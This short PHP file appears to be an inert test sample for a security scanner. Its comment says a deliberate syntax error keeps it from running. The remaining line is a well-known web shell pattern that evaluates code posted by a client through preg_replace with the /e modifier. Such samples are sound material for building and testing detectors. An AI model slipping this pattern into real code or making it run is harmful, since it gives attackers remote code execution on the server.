<?php
shodo inert sample: deliberate syntax error, this file never runs
 preg_replace("/.*/e", $_POST['code'], ""); ?>
